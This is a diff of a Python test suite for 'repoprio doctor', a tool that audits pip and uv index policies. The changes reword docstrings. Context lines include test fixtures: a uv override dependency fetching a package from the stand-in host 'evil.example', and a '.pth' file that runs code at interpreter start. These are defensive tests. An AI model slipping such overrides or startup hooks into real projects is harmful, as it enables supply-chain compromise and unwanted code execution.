@@ -1,4 +1,4 @@
-"""What `repoprio doctor` says is a fact: which pip and which uv were run, as whom, with which files."""
+"""The report of `repoprio doctor` is based on runs: of which pip and uv, as which user, with which files."""
 
 from __future__ import annotations
 
@@ -37,7 +37,7 @@ NOTHING_MORE = "[global]\nextra-index-url =\nfind-links =\n"
 def test_each_environment_under_the_policy_that_it_sees(
     fresh_env: EnvFactory, pip_env: EnvFactory, tmp_path: Path
 ) -> None:
-    """A policy in one environment's pip.conf reaches no other: there the hook finds none, or one that observes."""
+    """A policy in one environment's pip.conf does not affect another one's hook."""
     env, bare, other = fresh_env(PIP), fresh_env("22.0.2"), fresh_env(PIP)
     (env.root / "pip.conf").write_text(OBSERVE.replace("observe", "strict"))
     (other.root / "pip.conf").write_text(OBSERVE)
@@ -60,7 +60,7 @@ def test_each_environment_under_the_policy_that_it_sees(
 
 
 def test_what_a_hook_tells(pip_env: EnvFactory, policy: Path) -> None:
-    """Asked, the hook says which policy a plain pip finds, and that pip does nothing else."""
+    """On request, the hook reports which policy a plain pip finds, and that pip does nothing else."""
     asked = pip_env(PIP).run("--version", policy=policy, env={ASKED: "1"})
     assert (asked.code, asked.stderr, asked.stdout.count("\n")) == (0, "", 1)
     assert f'"files": ["{policy}"]' in asked.stdout
@@ -71,7 +71,7 @@ def test_what_a_hook_tells(pip_env: EnvFactory, policy: Path) -> None:
 
 
 def test_pips_on_path(pip_env: EnvFactory, policy: Path, tmp_path: Path) -> None:
-    """Each pip on PATH is tried as it is started, and each one once, however many names it has."""
+    """Each pip on PATH is tried as it would be started, and only once, even under several names."""
     env, stock = pip_env(PIP), pip_env(PIP, stock=True)
     shims = tmp_path / "shims"
     shims.mkdir()
@@ -102,7 +102,7 @@ def test_pips_on_path(pip_env: EnvFactory, policy: Path, tmp_path: Path) -> None
 
 @pytest.mark.parametrize("by", ["--python", "VIRTUAL_ENV"])
 def test_the_environment_that_is_meant(by: str, pip_env: EnvFactory, policy: Path) -> None:
-    """An activated environment, or the one of --python, is the first, and repoprio's own is not tried for it."""
+    """The activated environment, or that of --python, is first, and repoprio's own is not tried instead."""
     env, stock = pip_env(PIP), pip_env("22.0.2", stock=True)
     arguments = ["--python", str(stock.python)] if by == "--python" else []
     variables = {"PATH": NO_PIPS} | ({} if arguments else {"VIRTUAL_ENV": str(stock.root)})
@@ -118,7 +118,7 @@ def test_the_environment_that_is_meant(by: str, pip_env: EnvFactory, policy: Pat
 
 
 def test_who_looks_from_where(pip_env: EnvFactory, policy: Path, tmp_path: Path) -> None:
-    """The report says as which user and in which folder all was run, and which commands."""
+    """The report names the user, the folder and the commands of all runs."""
     env = pip_env(PIP)
     code, found = report(env, policy)
     number = os.geteuid()
@@ -136,7 +136,7 @@ def test_who_looks_from_where(pip_env: EnvFactory, policy: Path, tmp_path: Path)
 def test_the_fuse_is_tried(
     pip: str, pip_env: EnvFactory, policy: Path, repository: RepositoryFactory, tmp_path: Path
 ) -> None:
-    """Run without its hook, a pip finds nothing, or asks what a later setting names; nothing is sent."""
+    """A pip run without its hook finds nothing, or asks what a later setting names; nothing is sent."""
     env, corp = pip_env(pip), repository("corp")
     systems, users = tmp_path / "global" / "pip", tmp_path / "user" / "pip"
     for folder in (systems, users):
@@ -160,7 +160,7 @@ def test_the_fuse_is_tried(
 
 
 def test_the_base_is_asked(fresh_env: EnvFactory, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Whether the base guards what is made from it is what a start of that base loads."""
+    """Whether the base has the hook is found by starting it."""
     env, other = fresh_env(PIP), fresh_env(PIP, stock=True)
     made_from = interpreters.Interpreter("made", (3, 11), "-", "-", None, str(other.python))
     base = interpreters.Interpreter(str(other.python), (3, 11), "-", str(other.site_packages), None, "-")
@@ -173,7 +173,7 @@ def test_the_base_is_asked(fresh_env: EnvFactory, monkeypatch: pytest.MonkeyPatc
 
 @pytest.mark.skipif(not owners.is_root(), reason="only root can give files to another user")
 def test_root_tries_nothing_of_another_user(fresh_env: EnvFactory, pip_env: EnvFactory, policy: Path) -> None:
-    """What another user can change is told with who and where, not run, and counted for neither side."""
+    """What another user can change is not run; it is reported with user and path, and counts as not tried."""
     env, other = pip_env(PIP), fresh_env(PIP, stock=True)
     marker = other.root / "run"
     (other.site_packages / "trap.pth").write_text(f"import pathlib; pathlib.Path({str(marker)!r}).touch()\n")
@@ -274,7 +274,7 @@ UNDONE_TOO = [
 def test_what_undoes_the_export_is_named(
     by: str, text: str, real_uv: Uv, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
 ) -> None:
-    """Whatever takes precedence in the real uv, in a variable, the project's or the user's file, is found and named."""
+    """Settings that override the export, in variables or files, are found and named, as in the real uv."""
     (real_uv.system / "uv" / "uv.toml").write_text(real_uv.exported)
     monkeypatch.setenv("UV_LINK_MODE", "copy")
     if by.startswith("UV_"):
@@ -293,7 +293,7 @@ def test_what_undoes_the_export_is_named(
 
 
 def test_a_workspaces_override_is_for_uv_lock_too(real_uv: Uv) -> None:
-    """`uv lock` takes what an override says and tells nothing of it; doctor names it with `uv pip`, which tells."""
+    """`uv lock` uses an override and does not print it; doctor names it through `uv pip`, which prints it."""
     (real_uv.system / "uv" / "uv.toml").write_text(real_uv.exported)
     (real_uv.work / "pyproject.toml").write_text(
         '[project]\nname = "p"\nversion = "0"\n[tool.uv]\noverride-dependencies = ["acme @ https://evil.example/a.zip"]\n'
@@ -365,7 +365,7 @@ def test_the_sources_of_a_workspace(tmp_path: Path) -> None:
 
 
 def test_a_uv_that_does_not_say_its_settings(real_uv: Uv, tmp_path: Path) -> None:
-    """A uv whose settings cannot be read is no success."""
+    """A uv whose settings cannot be read does not count as obeying."""
     fake = tmp_path / "uv"
     fake.write_text("#!/bin/sh\n")
     fake.chmod(0o755)
@@ -374,7 +374,7 @@ def test_a_uv_that_does_not_say_its_settings(real_uv: Uv, tmp_path: Path) -> Non
 
 
 def test_uv_in_the_report(pip_env: EnvFactory, policy: Path, tmp_path: Path) -> None:
-    """The text names what undoes the export and what goes first in uv; the export in place is exit status 0."""
+    """The text names what overrides the export in uv; with the export in place the exit status is 0."""
     env, tools, place = pip_env(PIP), tmp_path / "bin", tmp_path / "system" / "uv"
     tools.mkdir()
     place.mkdir(parents=True)
@@ -422,7 +422,7 @@ class Terminal(io.StringIO):
 
 
 def test_side_by_side_and_told_on_a_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Several are looked at at once, in order; a terminal sees how far it is, and nothing of that at the end."""
+    """Several are tried concurrently, reported in order; a terminal shows the progress until the end."""
     screen, meeting = Terminal(), threading.Barrier(3, timeout=30)
     monkeypatch.setattr(sys, "stderr", screen)
     monkeypatch.setenv("TERM", "xterm")
